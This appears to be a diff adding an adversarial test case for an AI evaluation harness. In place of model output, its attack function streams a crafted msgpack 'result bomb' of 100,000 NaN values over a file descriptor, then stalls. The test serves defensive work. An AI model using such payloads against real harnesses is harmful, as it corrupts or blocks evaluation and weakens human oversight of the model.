@@ -1,0 +1,37 @@
+"""Class: front: results that are bombs. Source: own find. Escape: a set of numbers that are not
+equal to themselves. Teeth: none, there is no channel here.
+Limits: timeout_s=5
+"""
+
+import os
+import struct
+import time
+
+import msgspec
+
+SET = 6
+
+
+def write(body):
+    rest = struct.pack("<I", len(body)) + body
+    while rest:
+        rest = rest[os.write(3, rest) :]
+
+
+def send(kind, **fields):
+    write(msgspec.msgpack.encode({"type": kind} | fields))
+
+
+def attack(model, tokenizer, scene):
+    result = (
+        b"\xc9"
+        + struct.pack(">I", 9 * 100_000 + 5)
+        + bytes([SET])
+        + b"\xdd"
+        + struct.pack(">I", 100_000)
+        + (b"\xcb\x7f\xf8" + bytes(6)) * 100_000
+    )
+    for start in range(0, len(result), 1 << 18):
+        send("Chunk", data=result[start : start + (1 << 18)], total_bytes=len(result))
+    send("Returned", cpu_s=0.0)
+    time.sleep(20)
